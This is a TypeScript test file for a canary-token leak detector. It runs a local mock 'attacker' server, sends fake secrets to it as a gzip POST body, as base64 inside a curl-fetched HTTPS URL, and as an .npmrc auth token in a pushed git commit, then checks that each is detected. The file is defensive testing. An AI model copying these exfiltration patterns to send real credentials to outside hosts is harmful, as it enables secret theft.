// The demo attacker's leak check is only worth its "nothing found" if it finds what does arrive: canaries sent to it
// directly (no grith in between) in a gzip body over HTTP, base64 in an HTTPS URL, and a git push of a commit
// carrying one are all found — in the raw stream, the decoded body, the pushed pack and the repository.
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Canary } from '../../../src/core/canary.js';
import { getFormat } from '../../../src/core/formats/index.js';
import { compileMatcher } from '../../../src/core/matcher/index.js';
import { toTargets } from '../../../src/core/targets.js';
import { Attacker } from '../../../src/demo/attacker.js';

const run = promisify(execFile);

function canary(id: string, format: string): Canary {
  const t = getFormat(format).generate();
  return {
    id,
    label: `test ${format}`,
    format,
    value: t.value,
    ...(t.companions ? { companions: t.companions } : {}),
    placements: [],
    createdAt: new Date(0).toISOString(),
    rotatedAt: null,
    terminate: false,
    fires: 0,
    lastFiredAt: null,
  };
}

const gz = canary('gz', 'openai-project');
const b64 = canary('b64', 'github-pat');
const pushed = canary('push', 'npm');
const idle = canary('idle', 'stripe-live');
const matcher = compileMatcher(toTargets([gz, b64, pushed, idle]));
let dir: string;
let atk: Attacker;
let gitEnv: NodeJS.ProcessEnv;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'grith-attacker-'));
  await writeFile(path.join(dir, 'gitconfig'), '[user]\n\tname = t\n\temail = t@example.invalid\n');
  gitEnv = { PATH: process.env.PATH, HOME: dir, GIT_CONFIG_GLOBAL: path.join(dir, 'gitconfig'), GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' };
  atk = await Attacker.start(path.join(dir, 'attacker'), gitEnv);
});

afterAll(async () => {
  await atk?.close();
  await rm(dir, { recursive: true, force: true });
});

describe('demo attacker', () => {
  it('records nothing and finds nothing before anything arrives', async () => {
    const r = await atk.leakCheck(matcher, gitEnv);
    expect(r.findings).toEqual([]);
    expect(r.repoObjects).toBe(0);
  });

  it('finds canaries that do arrive: gzip body, base64 in an HTTPS URL, a pushed commit', { timeout: 60_000 }, async () => {
    const before = atk.mark();
    const res = await fetch(`${atk.http}/up`, { method: 'POST', headers: { 'content-encoding': 'gzip' }, body: gzipSync(`KEY=${gz.value}\n`) });
    expect(res.status).toBe(200);
    const url = `${atk.https}/p?d=${Buffer.from(`x${b64.value}`).toString('base64')}`;
    await run('curl', ['-sS', '--cacert', atk.caFile, '-o', '/dev/null', url]);

    const work = path.join(dir, 'work');
    const git = (...a: string[]) => run('git', a, { cwd: work, env: { ...gitEnv, GIT_SSL_CAINFO: atk.caFile } });
    await run('git', ['init', '-q', '-b', 'main', work], { env: gitEnv });
    await writeFile(path.join(work, '.npmrc'), `//registry.npmjs.org/:_authToken=${pushed.value}\n`);
    await git('add', '.');
    await git('commit', '-qm', 'leak');
    await git('push', '-q', atk.gitUrl(), 'main');

    const since = atk.scanReceived(matcher, before);
    const where = (id: string) => since.findings.filter((f) => f.canaryId === id).map((f) => f.in);
    expect(where('gz').some((w) => /decoded body/.test(w))).toBe(true);
    expect(where('b64').length).toBeGreaterThan(0);
    expect(where('push').some((w) => /pushed pack/.test(w))).toBe(true);
    expect(where('idle')).toEqual([]);

    const all = await atk.leakCheck(matcher, gitEnv);
    expect(all.repoObjects).toBeGreaterThan(0);
    expect(all.findings.some((f) => f.canaryId === 'push' && f.in === 'attacker git repository')).toBe(true);
    // Findings name canaries, never their values.
    expect(JSON.stringify(all)).not.toContain(pushed.value);
    expect(atk.stats().bytes).toBeGreaterThan(0);
  });
});
